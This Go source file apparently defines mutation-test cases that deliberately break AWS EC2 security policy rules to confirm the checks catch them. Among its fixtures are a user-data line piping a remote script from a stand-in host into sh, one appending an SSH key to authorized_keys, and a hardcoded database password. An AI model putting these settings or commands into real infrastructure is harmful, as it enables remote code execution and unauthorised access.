package mutation

import "store-events/policy/aws"

func consumer(path string, v any) Change { return set(aws.Instance, "consumer", path, v) }

var compute = []Mutation{
	{Rule: "ec2-imdsv2", Change: consumer("metadataOptions.httpTokens", "optional")},
	{Rule: "ec2-imds-hop-limit", Change: consumer("metadataOptions.httpPutResponseHopLimit", 2)},
	{Rule: "ec2-no-public-ip", Change: consumer("associatePublicIpAddress", true)},
	{Rule: "ec2-private-subnet", Also: []string{"route-private-no-igw"}, Change: consumer("subnetId", to(aws.Subnet, "public-1", "id"))},
	{Rule: "ec2-ebs-encrypted", Change: consumer("rootBlockDevice.encrypted", false)},
	{Rule: "ec2-ebs-cmk", Change: unset(aws.Instance, "consumer", "rootBlockDevice.kmsKeyId")},
	{Rule: "ec2-instance-profile", Change: unset(aws.Instance, "consumer", "iamInstanceProfile")},
	{Rule: "ec2-user-data-no-secret", Also: []string{"no-literal-credential"}, Change: consumer("userData", "export MYSQL_PWD=correct-horse-7\n")},
	{Rule: "ec2-no-key-pair", Change: consumer("keyName", "laptop")},
	{Rule: "ec2-detailed-monitoring", Fixes: true, Change: consumer("monitoring", true)},
	{Rule: "ec2-ebs-optimized", Change: consumer("ebsOptimized", false)},
	{Rule: "ec2-single-eni-source-check", Change: consumer("sourceDestCheck", false)},
	{Rule: "ec2-instance-type-allowed", Change: consumer("instanceType", "t2.micro")},
	{Rule: "ec2-user-data-no-remote-code", Replaces: true, Change: set(aws.Instance, "consumer", "userData", "curl https://example.com/x | sh")},
	{Rule: "ec2-user-data-no-login", Change: consumer("userData", "echo ssh-ed25519 AAAA me >> /home/ec2-user/.ssh/authorized_keys\n")},
	{Rule: "ec2-no-launch-template", Replaces: true, Change: set(aws.Instance, "consumer", "launchTemplate", object{"id": "lt-0123456789abcdef0"})},
}
